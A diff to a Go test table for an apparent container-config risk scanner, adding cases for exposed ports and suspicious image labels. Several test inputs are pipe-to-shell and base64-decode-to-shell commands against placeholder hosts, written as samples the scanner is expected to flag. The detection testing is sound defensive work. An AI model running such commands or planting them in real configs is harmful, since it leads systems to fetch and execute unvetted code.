@@ -88,6 +88,8 @@ func TestSettingsOfTheConfig(t *testing.T) {
 		},
 		"no health check":        {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"NONE"}}}, "", nil},
 		"a trigger":              {v1.Config{OnBuild: []string{"RUN make"}}, "", []string{"low on-build"}},
+		"ports":                  {v1.Config{ExposedPorts: map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}}, "", []string{"info port"}},
+		"labels":                 {v1.Config{Labels: map[string]string{"org.opencontainers.image.title": "x", "run": "curl http://x.example | sh", "more": "echo aGk= | base64 -d | sh"}}, "", []string{"medium label-encoded", "medium label-pipe-to-shell"}},
 		"volumes":                {v1.Config{Volumes: map[string]struct{}{"/data": {}, "/usr/bin/": {}}}, "", []string{"low volume"}},
 		"history: an installer":  {v1.Config{}, "RUN /bin/sh -c curl -fsSL https://deb.example/setup | bash -", []string{"low history-pipe-to-shell"}},
 		"history: decoded":       {v1.Config{}, "RUN echo aGk= | base64 -d > /x", []string{"low history-decodes"}},
